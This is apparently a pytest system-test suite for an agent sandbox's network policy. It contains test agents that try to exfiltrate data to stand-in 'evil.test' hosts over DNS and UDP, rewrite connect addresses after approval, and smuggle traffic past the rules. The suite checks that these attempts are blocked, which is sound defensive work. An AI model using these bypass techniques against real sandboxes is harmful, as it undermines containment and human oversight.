"""The network of a session: its own loopback, hosts by rule and by name, and nothing else.

The world outside is a network namespace with a nameserver and web servers of its own; what
must not be reached is there too, and says whether it was.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.system import outside_world
from tests.system.conftest import Person
from tests.system.outside_world import EVIL, GOOD, GOOD6, LAN, META, NAMESERVER

WORLD = Path(outside_world.__file__)
SETUP = """
set -e
mount --bind "$1/resolv.conf" /etc/resolv.conf
mount --bind "$1/hosts" /etc/hosts
ip link set lo up
shift
for address; do ip addr add "$address" dev lo; done
echo ready
exec cat
"""


class Outside:
    """A network namespace with a small internet in it."""

    def __init__(self, place: Path) -> None:
        self.web = place / "web"
        self.web.mkdir()
        (self.web / "hello.txt").write_text("hello from the world\n")
        (place / "resolv.conf").write_text(f"nameserver {NAMESERVER}\n")
        (place / "hosts").write_text(outside_world.HOSTS)
        self._holder = subprocess.Popen(
            ["unshare", "--net", "--mount", "--propagation", "private", "sh", "-c", SETUP, "sh",
             str(place), *outside_world.ADDRESSES],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
        )  # fmt: skip
        self.enter = (
            "nsenter", f"--net=/proc/{self._holder.pid}/ns/net",
            f"--mount=/proc/{self._holder.pid}/ns/mnt",
        )  # fmt: skip
        assert self._holder.stdout is not None
        assert self._holder.stdout.readline() == "ready\n"
        self._world = subprocess.Popen(
            [*self.enter, sys.executable, str(WORLD), str(self.web)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, cwd=WORLD.parents[2],
        )  # fmt: skip
        assert self._world.stdout is not None
        assert self._world.stdout.readline() == "ready\n"

    def seen(self) -> dict[str, list[str]]:
        """What has reached the world up to now, by place."""
        assert self._world.stdin is not None
        assert self._world.stdout is not None
        self._world.stdin.write("?\n")
        self._world.stdin.flush()
        found: dict[str, list[str]] = json.loads(self._world.stdout.readline())
        return found

    def stop(self) -> None:
        for process in (self._world, self._holder):
            process.kill()
            process.communicate()


@pytest.fixture
def outside(person: Person) -> Iterator[Outside]:
    """The world, which the person's commands are run in."""
    if os.geteuid() != 0:
        pytest.skip("not root: no network namespace to make a world in")
    place = Path(tempfile.mkdtemp(prefix="safeclaw-world-"))
    place.chmod(0o755)
    world = Outside(place)
    person.within = (*world.enter, f"--wdns={person.workspace}")
    yield world
    world.stop()
    shutil.rmtree(place)


def policy(*rules: str) -> str:
    own = "".join(f"  - {{{rule}}}\n" for rule in rules)
    return f"""\
version: "1.0"
rules:
{own}  - {{action: file, path: ["**", "/tmp/**"], effect: allow}}
  - {{action: shell.execute, command: ["/usr/** *", "/bin/** *"], effect: allow}}
  - {{action: "*", effect: deny}}
"""


def run(
    person: Person, rules: tuple[str, ...], agent: str, *options: str
) -> subprocess.CompletedProcess[str]:
    """Run a Python agent under the rules."""
    chosen = person.write("policy.yaml", policy(*rules))
    person.write("agent.py", "import errno, json, os, socket, sys, threading\n" + agent)
    return person.safeclaw(
        "run", "--policy", str(chosen), *options, "--", "/usr/bin/python3", "agent.py"
    )


ALLOW_GOOD = "action: network, host: ['*.good.test', good.test], effect: allow"
TRY = """
def attempt(call):
    try:
        return call()
    except OSError as problem:
        return errno.errorcode.get(problem.errno, str(problem.errno))

def fetch(host, port=80, family=0):
    def work():
        with socket.create_connection((host, port), 20) as sock:
            return sock.recv(100).decode()
    return attempt(work)
"""

# ---- the session's own loopback


OWN = (
    TRY
    + """
import select, subprocess
said = {}
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    server = socket.create_server((host, 0), family=family)
    child = os.fork()
    if not child:
        with socket.create_connection(server.getsockname()[:2]) as client:
            client.sendmsg([b"ping ", b"pong"])
        os._exit(0)
    peer, _ = server.accept()
    data = b""
    while chunk := peer.recv(100):
        data += chunk
    os.waitpid(child, 0)
    said[host] = data.decode()
everywhere = socket.create_server(("0.0.0.0", 8080))
with socket.create_connection(("127.0.0.1", 8080)) as client:
    said["wildcard"] = client.getpeername()[1]
one, two = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2))
one.bind(("127.0.0.1", 0))
two.sendto(b"datagram", one.getsockname())
said["udp"] = one.recv(100).decode()
abstract = socket.socket(socket.AF_UNIX)
abstract.bind("\\0mine")
abstract.listen()
with socket.socket(socket.AF_UNIX) as client:
    client.connect("\\0mine")
    client.sendall(b"abstract")
    said["abstract"] = abstract.accept()[0].recv(100).decode()
print(json.dumps(said))
"""
)


def test_a_sessions_own_servers_and_clients_meet_without_a_rule(person: Person) -> None:
    done = run(person, (), OWN)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == {
        "127.0.0.1": "ping pong",
        "::1": "ping pong",
        "wildcard": 8080,
        "udp": "datagram",
        "abstract": "abstract",
    }
    found = [r for r in person.records() if str(r.get("action")).startswith("network.")]
    assert {str(r["rule"]) for r in found} == {"runtime:own-loopback"}
    targets = [r["target"] for r in found]
    assert {"address": "0.0.0.0", "own": True, "port": 8080, "protocol": "tcp"} in targets
    assert {"socket": "@mine"} in targets


def test_a_specific_denial_wins_over_the_own_loopback(person: Person) -> None:
    rule = "action: network.connect, host: own-loopback, effect: deny"
    agent = (
        TRY
        + """
server = socket.create_server(("127.0.0.1", 0))
print(fetch(*server.getsockname()), server.getsockname()[1] > 0)
"""
    )
    done = run(person, (rule,), agent)
    assert done.stdout == "EACCES True\n", done.stderr


HOST_LOOPBACK = (
    TRY
    + """
said = {host: fetch(host, 7777) for host in ("127.0.0.1", "::1", "0.0.0.0", "::ffff:127.0.0.1")}
six = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
said["any"] = attempt(lambda: six.connect(("::", 7777)))
def abstract():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\\0host-abstract")
        return client.recv(100).decode()
said["abstract"] = attempt(abstract)
def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(20)
        sock.connect(("127.0.0.1", 9999))
        sock.send(b"to the host")
        return sock.recv(100).decode()
said["udp"] = attempt(datagram)
print(json.dumps(said))
"""
)


def test_the_hosts_loopback_is_out_of_reach_unless_named(person: Person, outside: Outside) -> None:
    done = run(person, ("action: network, host: '*', effect: allow",), HOST_LOOPBACK)
    assert done.returncode == 0, done.stderr
    assert set(json.loads(done.stdout).values()) == {"ECONNREFUSED"}
    assert outside.seen() == {}

    # the same attack, where a rule names the host's loopback
    done = run(person, ("action: network, host: localhost, effect: allow",), HOST_LOOPBACK)
    said = json.loads(done.stdout)
    assert said["127.0.0.1"] == "hello from tcp 127.0.0.1:7777\n", done.stderr
    assert said["udp"] == "to the host"
    assert said["abstract"] == "ECONNREFUSED"
    assert set(outside.seen()) == {"tcp 127.0.0.1:7777", "tcp ::1:7777", "udp 127.0.0.1:9999"}


def test_an_abstract_socket_of_the_host_answers_from_its_own_namespace(outside: Outside) -> None:
    # the control: it is there, and only the namespace keeps the agent from it
    code = "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect('\\0host-abstract')"
    subprocess.run([*outside.enter, "/usr/bin/python3", "-c", code], check=True)
    assert outside.seen() == {"abstract": ["connection"]}


# ---- names


LOOK_UP = (
    TRY
    + """
def addresses(name):
    return attempt(lambda: sorted({str(x[4][0]) for x in socket.getaddrinfo(name, 80)}))
said = {name: addresses(name) for name in sys.argv[1:] or NAMES}
print(json.dumps(said))
"""
)


def test_only_names_that_a_rule_could_allow_leave_the_session(
    person: Person, outside: Outside
) -> None:
    names = ["api.good.test", "six.good.test", "evil.test", "secret-data.evil.test", "nx.good.test"]
    done = run(person, (ALLOW_GOOD,), f"NAMES = {names!r}\n" + LOOK_UP)
    assert done.returncode == 0, done.stderr
    said = json.loads(done.stdout)
    assert said["api.good.test"] == [GOOD]
    assert said["six.good.test"] == [GOOD6]
    assert said["evil.test"] == said["secret-data.evil.test"] == said["nx.good.test"]
    asked = set(outside.seen()["dns"])
    assert asked == {"api.good.test", "six.good.test", "nx.good.test"}
    decided = {
        (str(r["target"]), r["decision"])
        for r in person.records()
        if r.get("action") == "network.resolve"
    }
    assert ("{'name': 'evil.test'}", "deny") in decided
    assert ("{'name': 'api.good.test'}", "allow") in decided


def test_a_truncated_answer_is_asked_for_again_over_tcp(person: Person, outside: Outside) -> None:
    done = run(person, (ALLOW_GOOD,), "NAMES = ['big.good.test']\n" + LOOK_UP)
    assert len(json.loads(done.stdout)["big.good.test"]) == 100, done.stderr
    assert set(outside.seen()["dns tcp"]) == {"big.good.test"}


def test_a_host_is_reached_by_its_name_and_not_by_its_bare_address(
    person: Person, outside: Outside
) -> None:
    agent = (
        TRY
        + f"""
said = [fetch("{GOOD}", 8443), fetch("{EVIL}")]
said += [fetch("api.good.test", 8443), fetch("{GOOD}", 8443), fetch("evil.test")]
said += [fetch("six.good.test")]
print(json.dumps(said))
"""
    )
    done = run(person, (ALLOW_GOOD,), agent)
    assert done.returncode == 0, done.stderr
    first, evil, named, again, unknown, six = json.loads(done.stdout)
    assert (first, evil) == ("EACCES", "EACCES")
    assert named == again == f"hello from tcp {GOOD}:8443\n"
    assert unknown == "-2"
    assert six == f"hello from tcp {GOOD6}:80\n"
    seen = outside.seen()
    assert len(seen[f"tcp {GOOD}:8443"]) == 2
    assert f"tcp {EVIL}:80" not in seen
    connected = [
        r["target"] for r in person.records("--decision", "allow")
        if r.get("action") == "network.connect" and "names" in r["target"]  # type: ignore[operator]
    ]  # fmt: skip
    assert {
        "address": GOOD, "names": ["api.good.test"], "port": 8443, "protocol": "tcp",
    } in connected  # fmt: skip

    # the same attack on the bare address, where a rule names it
    done = run(person, (f"action: network, host: {EVIL}, effect: allow",), agent)
    assert json.loads(done.stdout)[1] == f"hello from tcp {EVIL}:80\n"
    assert f"tcp {EVIL}:80" in outside.seen()


def test_a_name_does_not_lead_to_this_host_or_a_private_network(
    person: Person, outside: Outside
) -> None:
    agent = (
        TRY
        + """
hosts = ("loop.good.test", "meta.good.test", "lan.good.test")
print(json.dumps([fetch(host, 7777 if "loop" in host else 80) for host in hosts]))
"""
    )
    done = run(person, (ALLOW_GOOD,), agent)
    assert json.loads(done.stdout) == ["ECONNREFUSED", "EACCES", "EACCES"], done.stderr
    assert set(outside.seen()) == {"dns"}

    named = f"action: network, host: ['*.good.test', localhost, {META}, 10.0.0.0/8], effect: allow"
    done = run(person, (named,), agent)
    assert all(text.startswith("hello from") for text in json.loads(done.stdout)), done.stderr
    assert {"tcp 127.0.0.1:7777", f"tcp {META}:80", f"tcp {LAN}:80"} < set(outside.seen())


def test_the_hosts_file_is_the_administrators_word(person: Person, outside: Outside) -> None:
    agent = TRY + 'print(fetch("intranet.test"), end="")'
    done = run(person, ("action: network.connect, host: intranet.test, effect: allow",), agent)
    assert done.stdout == f"hello from tcp {LAN}:80\n", done.stderr
    done = run(person, (ALLOW_GOOD,), agent)
    assert done.stdout == "EACCES"
    assert len(outside.seen()[f"tcp {LAN}:80"]) == 1


# ---- attacks on addresses


SPELLINGS = (
    TRY
    + f"""
said = [fetch("{META}"), fetch("::ffff:{META}"), fetch("::ffff:{EVIL}"), fetch("{EVIL}")]
def unspecified():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("0.0.0.0", 0))
    sock.connect(("{EVIL}", 80))
    return sock.recv(100).decode()
said.append(attempt(unspecified))
print(json.dumps(said))
"""
)


def test_no_spelling_of_an_address_gets_past_its_rule(person: Person, outside: Outside) -> None:
    wide = (
        f"action: network, host: {EVIL}, effect: deny",
        "action: network, host: ['*', 0.0.0.0/0, '::/0'], effect: allow",
    )
    done = run(person, wide, SPELLINGS)
    assert set(json.loads(done.stdout)) == {"EACCES"}, done.stderr
    assert outside.seen() == {}

    done = run(person, (f"action: network, host: [{META}, {EVIL}], effect: allow",), SPELLINGS)
    assert all(text.startswith("hello from") for text in json.loads(done.stdout)), done.stderr
    assert len(outside.seen()[f"tcp {META}:80"]) == 2


TUNNEL = (
    TRY
    + f"""
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
GOOD, EVIL = "{GOOD}", "{EVIL}"
socket.getaddrinfo("good.test", 80)
said = {{}}

def sockaddr(host, family=socket.AF_INET):
    return struct.pack("=H", family) + struct.pack(">H", 9999) + socket.inet_aton(host) + bytes(8)

def udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

def tell(call):
    result = call()
    return result if result >= 0 else errno.errorcode[ctypes.get_errno()]

allowed = udp()
allowed.settimeout(20)
said["allowed"] = attempt(lambda: allowed.sendto(b"first", (GOOD, 9999)))
said["answer"] = allowed.recv(100).decode()
said["sendto"] = attempt(lambda: udp().sendto(b"tunnel", (EVIL, 9999)))
connected = udp()
connected.connect((GOOD, 9999))
said["on a connected socket"] = attempt(lambda: connected.sendto(b"tunnel", (EVIL, 9999)))
said["reconnect"] = attempt(lambda: connected.connect((EVIL, 9999)))
said["unspec connect"] = tell(lambda: libc.connect(connected.fileno(), bytes(16), 16))
said["after it"] = attempt(lambda: connected.connect((EVIL, 9999)))
unspec = sockaddr(EVIL, 0)
said["unspec sendto"] = tell(
    lambda: libc.sendto(allowed.fileno(), b"tunnel", 6, 0, unspec, 16))
said["sendmsg"] = attempt(lambda: udp().sendmsg([b"tunnel"], [], 0, (EVIL, 9999)))

class Iovec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_char_p), ("length", ctypes.c_size_t))
class Msghdr(ctypes.Structure):
    _fields_ = (("name", ctypes.c_char_p), ("namelen", ctypes.c_uint32), ("iov", ctypes.c_void_p),
                ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p),
                ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int), ("pad", ctypes.c_int),
                ("sent", ctypes.c_uint), ("more", ctypes.c_uint))
one, two = Iovec(b"second", 6), Iovec(b"tunnel", 6)
both = (Msghdr * 2)(
    Msghdr(sockaddr(GOOD), 16, ctypes.addressof(one), 1),
    Msghdr(sockaddr(EVIL), 16, ctypes.addressof(two), 1),
)
fresh = udp()
said["sendmmsg"] = tell(lambda: libc.sendmmsg(fresh.fileno(), both, 2, 0))
said["lengths"] = [message.sent for message in both]
print(json.dumps(said))
"""
)


def test_datagrams_go_where_a_rule_allows_and_nowhere_else(
    person: Person, outside: Outside
) -> None:
    done = run(person, (ALLOW_GOOD,), TUNNEL)
    assert done.returncode == 0, done.stderr
    said = json.loads(done.stdout)
    assert said.pop("answer") == "first"
    assert said == {
        "allowed": 5, "sendto": "EACCES", "on a connected socket": "EACCES",
        "reconnect": "EACCES", "unspec connect": 0, "after it": "EACCES",
        "unspec sendto": "EACCES", "sendmsg": "EACCES", "sendmmsg": 1, "lengths": [6, 0],
    }  # fmt: skip
    seen = outside.seen()
    assert f"udp {EVIL}:9999" not in seen
    assert seen[f"udp {GOOD}:9999"] == ["first", "second"]

    # each of them works where a rule allows the other host too
    done = run(person, (f"action: network, host: [good.test, {EVIL}], effect: allow",), TUNNEL)
    said = json.loads(done.stdout)
    assert (said["sendmmsg"], said["lengths"]) == (2, [6, 6]), done.stderr
    assert outside.seen()[f"udp {EVIL}:9999"] == ["tunnel"] * 5


RACE = (
    TRY
    + f"""
import ctypes, mmap, signal, struct
libc = ctypes.CDLL(None, use_errno=True)
socket.getaddrinfo("good.test", 80)
good, evil = (struct.pack("=H", 2) + struct.pack(">H", 9999) + socket.inet_aton(host) + bytes(8)
              for host in ("{GOOD}", "{EVIL}"))
# a thread in all but the interpreter's lock: it writes the same memory all the time
address = (ctypes.c_char * 16).from_buffer(mmap.mmap(-1, 4096))
ctypes.memmove(address, good, 16)
writer = os.fork()
while not writer:
    ctypes.memmove(address, evil, 16)
    ctypes.memmove(address, good, 16)
sent = 0
while sent < 50:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        if libc.connect(sock.fileno(), address, 16) == 0:
            sent += 1
            sock.send(b"raced")
os.kill(writer, signal.SIGKILL)
os.waitpid(writer, 0)
print(sent)
"""
)
#: The supervisor with one defence off: what is used is read again after the verdict.
READ_AGAIN = """
import sys
from safeclaw.daemon.cli.main import main
from safeclaw.sandbox import network
from safeclaw.sandbox.caller import read_exact

def connect(note, sock, raw, connect=network._connect_outside):
    # the window that a busy machine would give it
    for _ in range(5000):
        again = read_exact(note.pid, note.args[1], len(raw))
        if again != raw:
            break
    return connect(note, sock, again)

network._connect_outside = connect
sys.exit(main())
"""


def test_an_address_rewritten_after_its_verdict_is_not_the_one_used(
    person: Person, outside: Outside
) -> None:
    done = run(person, (ALLOW_GOOD,), RACE)
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) > 0
    seen = outside.seen()
    assert f"udp {EVIL}:9999" not in seen
    assert len(seen[f"udp {GOOD}:9999"]) == int(done.stdout)

    driver = person.base / "driver.py"
    driver.write_text(READ_AGAIN)
    person.own()
    person.program[1:] = [str(driver)]
    done = run(person, (ALLOW_GOOD,), RACE)
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) > 0
    assert outside.seen().get(f"udp {EVIL}:9999")


OPTIONS = (
    TRY
    + """
tcp = socket.create_connection(("api.good.test", 8443))
options = {
    "source route": (0, 4, b"\\x83\\x07\\x04\\x00\\x00\\x00\\x00\\x00"),
    "device": (1, 25, b"lo\\0"),
    "device index": (1, 62, (1).to_bytes(4, "little")),
    "mark": (1, 36, (1).to_bytes(4, "little")),
    "transparent": (0, 19, (1).to_bytes(4, "little")),
    "group": (0, 35, socket.inet_aton("224.0.0.251") + socket.inet_aton("0.0.0.0")),
    "repair": (6, 19, (1).to_bytes(4, "little")),
}
said = {name: attempt(lambda: tcp.setsockopt(*value)) for name, value in options.items()}
said["reconnect"] = attempt(lambda: tcp.connect(("203.0.113.66", 80)))
fresh = socket.create_connection(("api.good.test", 8443))
import ctypes
ctypes.CDLL(None).connect(fresh.fileno(), bytes(16), 16)
said["listen"] = attempt(lambda: fresh.listen())
said["bind"] = attempt(lambda: fresh.bind(("0.0.0.0", 4444)))
said["fast open"] = attempt(lambda: socket.socket().sendto(b"x", 0x20000000, ("203.0.113.66", 80)))
print(json.dumps(said))
"""
)


def test_a_socket_of_the_hosts_network_cannot_be_turned_to_more(
    person: Person, outside: Outside
) -> None:
    done = run(person, ("action: network.connect, host: '*.good.test', effect: allow",), OPTIONS)
    assert done.returncode == 0, done.stderr
    said = json.loads(done.stdout)
    # a kernel without CAP_NET_ADMIN's option says EPERM for itself
    assert said == {
        "source route": "EPERM", "device": "EPERM", "device index": "EPERM", "mark": "EPERM",
        "transparent": "EPERM", "group": "EPERM", "repair": "EPERM", "reconnect": "EACCES",
        "listen": "EACCES", "bind": "EACCES", "fast open": "ENOTSUP",
    }  # fmt: skip
    assert f"tcp {EVIL}:80" not in outside.seen()


# ---- honest programs


MIXED = (
    TRY
    + """
import asyncio
async def main():
    async def serve(reader, writer):
        writer.write(await reader.readline())
        await writer.drain()
        writer.close()
    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    own = server.sockets[0].getsockname()
    reader, writer = await asyncio.open_connection(*own)
    writer.writelines([b"own ", b"loopback\\n"])
    said = [(await reader.readline()).decode()]
    reader, writer = await asyncio.open_connection("api.good.test", 80)
    writer.write(b"GET /hello.txt HTTP/1.0\\r\\n\\r\\n")
    said.append((await reader.read()).decode().splitlines()[-1])
    said.append(writer.get_extra_info("peername")[0])
    loop = asyncio.get_running_loop()
    got = loop.create_future()
    class Datagrams(asyncio.DatagramProtocol):
        def datagram_received(self, data, address):
            got.set_result((data.decode(), address[0]))
    # watched by epoll before its first use outside
    transport, _ = await loop.create_datagram_endpoint(
        Datagrams, local_addr=("0.0.0.0", 0))
    await asyncio.sleep(0)
    transport.sendto(b"statistics", ("203.0.113.10", 9999))
    said.append(await asyncio.wait_for(got, 20))
    print(json.dumps(said))
asyncio.run(main())
"""
)


def test_asyncio_serves_itself_and_talks_to_the_world_at_once(
    person: Person, outside: Outside
) -> None:
    done = run(person, (ALLOW_GOOD,), MIXED)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == [
        "own loopback\n", "hello from the world", GOOD, ["statistics", GOOD],
    ]  # fmt: skip
    assert outside.seen()["web"] == ["/hello.txt"]


NODE = """
const http = require('http'), dgram = require('dgram');
const server = http.createServer((_, out) => out.end('own')).listen(0, '127.0.0.1', () => {
  const get = (url, then) => http.get(url, (r) => {
    let text = ''; r.on('data', (d) => text += d); r.on('end', () => then(text.trim()));
  }).on('error', (e) => then(e.code));
  get(`http://127.0.0.1:${server.address().port}/`, (own) =>
    get('http://api.good.test/hello.txt', (world) =>
      get('http://evil.test/', (evil) => {
        const udp = dgram.createSocket('udp4');
        udp.on('message', (m) => {
          console.log(JSON.stringify([own, world, evil, m.toString()]));
          udp.close(); server.close();
        });
        udp.send('metrics', 9999, 'good.test');
      })));
});
"""


def test_node_serves_itself_and_talks_to_the_world(person: Person, outside: Outside) -> None:
    node = shutil.which("node")
    assert node is not None, "nodejs is not installed"
    chosen = person.write("policy.yaml", policy(ALLOW_GOOD))
    person.write("agent.js", NODE)
    done = person.safeclaw("run", "--policy", str(chosen), "--", node, "agent.js")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == ["own", "hello from the world", "ENOTFOUND", "metrics"]
    assert f"tcp {EVIL}:80" not in outside.seen()


def test_curl_git_and_pip_reach_the_hosts_a_policy_names(person: Person, outside: Outside) -> None:
    repository = outside.web / "project.git"
    place = outside.web.parent / "project"
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-c", "safe.directory=*"]
    subprocess.run([*git, "init", "-q", str(place)], check=True)
    (place / "file").write_text("content\n")
    subprocess.run([*git, "-C", str(place), "add", "file"], check=True)
    subprocess.run([*git, "-C", str(place), "commit", "-qm", "one"], check=True)
    subprocess.run([*git, "clone", "-q", "--bare", str(place), str(repository)], check=True)
    subprocess.run([*git, "-C", str(repository), "update-server-info"], check=True)
    index = outside.web / "simple" / "demo"
    index.mkdir(parents=True)
    (index / "index.html").write_text('<a href="demo-1.0.tar.gz">demo-1.0.tar.gz</a>')
    (index / "demo-1.0.tar.gz").write_bytes(b"not opened: only downloaded")
    chosen = person.write("policy.yaml", policy(ALLOW_GOOD))
    script = (
        "curl -sS http://api.good.test/hello.txt && "
        "! curl -sS http://evil.test/ && "
        "HOME=$PWD git clone -q http://good.test/project.git && cat project/file && "
        'python3 -c "import urllib.request as u; '
        "print(u.urlopen('http://good.test/simple/demo/').status)\""
    )
    done = person.safeclaw("run", "--policy", str(chosen), "--", "sh", "-c", script)
    assert done.returncode == 0, done.stderr
    assert done.stdout == "hello from the world\ncontent\n200\n"
    assert f"tcp {EVIL}:80" not in outside.seen()


SERVE = """
server = socket.create_server(("0.0.0.0", 8080))
print("ready", flush=True)
if os.path.exists("go"):
    open("go").read()
else:
    server.accept()[0].sendall(b"served")
"""


def test_a_server_is_seen_outside_only_where_a_rule_says_so(
    person: Person, outside: Outside
) -> None:
    rule = "action: network.bind, host: 0.0.0.0, port: 8080, effect: allow"
    chosen = person.write("policy.yaml", policy(rule))
    person.write("agent.py", "import os, socket\n" + SERVE)
    code = f"import socket; print(socket.create_connection(('{GOOD}', 8080)).recv(9).decode())"
    fetch = [*outside.enter, "/usr/bin/python3", "-c", code]
    words = ("run", "--policy", str(chosen), "--", "/usr/bin/python3", "agent.py")
    with person.popen(*words) as agent:
        assert agent.stdout is not None
        assert agent.stdout.readline() == "ready\n"
        got = subprocess.run(fetch, capture_output=True, text=True, check=False)
        agent.communicate(timeout=30)
    assert got.stdout.strip() == "served", got.stderr

    person.write("policy.yaml", policy())
    os.mkfifo(person.workspace / "go")
    person.own()
    with person.popen(*words) as agent:
        assert agent.stdout is not None
        assert agent.stdout.readline() == "ready\n"
        got = subprocess.run(fetch, capture_output=True, text=True, check=False)
        (person.workspace / "go").write_text("")
        agent.communicate(timeout=30)
    assert "ConnectionRefusedError" in got.stderr


PIPE = """
import signal
one, two = socket.socketpair()
two.close()
hit = []
signal.signal(signal.SIGPIPE, lambda *_: hit.append(1))
said = []
for flags in (0, socket.MSG_NOSIGNAL):
    try:
        one.sendmsg([b"x"], [], flags)
    except BrokenPipeError:
        said.append("broken")
os.getpid()
said.append(len(hit))
full, reader = socket.socketpair()
full.setblocking(False)
sent = full.sendmsg([b"y" * 50_000_000])
said.append(0 < sent < 50_000_000)
try:
    full.sendmsg([b"z"])
except BlockingIOError:
    said.append("would block")
signal.signal(signal.SIGALRM, lambda *_: (_ for _ in ()).throw(TimeoutError()))
full.setblocking(True)
signal.setitimer(signal.ITIMER_REAL, 0.2)
try:
    full.sendmsg([b"z" * 1000])
except TimeoutError:
    said.append("interrupted")
server = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(server.getsockname())
peer, _ = server.accept()
client.setsockopt(socket.SOL_SOCKET, 60, 1)
said.append(client.sendmsg([b"a" * 70000], [], 0x4000000))
got = b""
while len(got) < 70000:
    got += peer.recv(70000)
said.append(got == b"a" * 70000)
left, right = socket.socketpair()
r, w = os.pipe()
socket.send_fds(left, [b"fd"], [w])
_, fds, _, _ = socket.recv_fds(right, 10, 1)
os.write(fds[0], b"passed")
said.append(os.read(r, 10).decode())
print(json.dumps(said))
"""


def test_sends_block_fail_and_signal_as_in_linux(person: Person) -> None:
    done = run(person, (), PIPE)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == [
        "broken", "broken", 1, True, "would block", "interrupted", 70000, True, "passed",
    ]  # fmt: skip
